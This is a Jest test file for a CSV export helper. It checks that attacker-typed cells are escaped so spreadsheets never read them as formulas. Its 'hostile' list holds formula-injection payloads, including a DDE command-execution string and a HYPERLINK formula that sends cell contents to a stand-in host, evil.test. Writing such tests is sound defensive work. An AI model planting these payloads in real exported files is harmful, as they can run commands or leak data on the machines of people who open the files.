import { parse } from 'csv-parse/sync';
import { csvCell, csvLine } from './csv';

const formula = /^["\s]*[=+\-@\t\r＝＋－＠]/;

const hostile = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A',
  ' =1',
  '"=1"',
  "=cmd|' /C calc'!A0",
  'x;=1',
  'x; "=1"',
  'x\t=1',
  'x\n=1',
  'x\r\n-1',
  'x";=1;"',
  '=HYPERLINK("https://evil.test/?"&A1,"open")',
];

describe('a cell of a CSV file', () => {
  it.each(hostile)(
    'that an attacker types is no formula, whatever the separator of the country: %j (T630)',
    (typed) => {
      for (const delimiter of [',', ';', '\t']) {
        const rows = parse(csvLine(['4711', typed, 'ann']), {
          ...{ delimiter, relax_quotes: true, relax_column_count: true, record_delimiter: ['\r\n', '\n', '\r'] },
          // A quote that the cut leaves open is one of the text.
          ...(delimiter === ',' ? {} : { quote: false }),
        });
        for (const cell of rows.flat()) expect([delimiter, cell, formula.test(cell)]).toEqual([delimiter, cell, false]);
      }
      // A spreadsheet that reads no quotes at all.
      for (const cell of csvLine([typed]).split(/[,;\t\r\n]/)) {
        if (!typed.includes(',')) expect([cell, formula.test(cell)]).toEqual([cell, false]);
      }
    },
  );

  it('keeps what is no formula, with quotes only where they are needed', () => {
    expect(csvLine(['a', 'Ann Lee', 'a"b', 'x;y', null, { n: 1 }, 'Mozilla/5.0 (X11; Linux)'])).toBe(
      'a,"Ann Lee","a""b","x;y",,"{""n"":1}","Mozilla/5.0 (X11; Linux)"\r\n',
    );
    expect(csvCell('2026-03-01T12:00:00.000Z')).toBe('2026-03-01T12:00:00.000Z');
  });

  it('is read back as it was typed', () => {
    const typed = ['Müller, "Max"', '名\n前', 'a;b'];
    expect(parse(csvLine(typed))).toEqual([typed]);
  });
});
